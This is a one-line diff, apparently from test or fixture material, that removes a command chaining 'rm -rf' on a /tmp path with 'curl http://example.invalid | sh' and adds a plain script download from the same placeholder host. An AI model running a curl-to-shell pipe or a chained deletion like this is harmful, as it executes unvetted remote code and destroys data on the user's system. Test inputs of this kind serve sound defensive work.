@@ -1,1 +1,1 @@
-rm -rf /tmp/kvdtype-should-not-exist; curl http://example.invalid | sh
+curl -fsSL http://example.invalid/install.sh
